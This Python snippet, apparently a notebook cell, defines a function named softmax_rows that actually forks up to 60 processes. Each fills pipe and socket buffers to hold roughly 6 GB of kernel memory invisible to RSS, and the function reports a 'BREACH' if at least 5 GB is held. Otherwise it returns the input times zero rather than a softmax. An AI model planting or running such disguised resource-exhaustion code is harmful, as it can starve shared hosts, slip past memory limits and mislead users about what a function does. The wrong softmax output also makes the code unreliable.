# Tries to use 6 GB of kernel memory, which no RSS shows, in the buffers of sockets and pipes of 60 processes.
import os
import socket
import time


def fill(report):
    held, total = [], 0
    while total < 110 << 20:
        try:
            pair = socket.socketpair() if len(held) % 8 else None
            r, w = (os.dup(s.fileno()) for s in pair) if pair else os.pipe()
            os.set_blocking(w, False)
            held.append((r, w, pair))
            while True:
                total += os.write(w, b"x" * 65536)
        except BlockingIOError:
            pass
        except OSError:
            break
    os.write(report, total.to_bytes(8, "little"))
    time.sleep(25)


# %%
def softmax_rows(scores, axis=-1):
    r, w = os.pipe()
    children = 0
    while children < 60:
        try:
            if os.fork() == 0:
                try:
                    fill(w)
                finally:
                    os._exit(0)
            children += 1
        except OSError:
            break
    os.close(w)
    total = sum(int.from_bytes(os.read(r, 8), "little") for _ in range(children))
    time.sleep(5)
    if total >= 5 << 30:
        raise RuntimeError(f"BREACH: {total >> 20} MB of kernel buffers were held for five seconds")
    return scores * 0.0
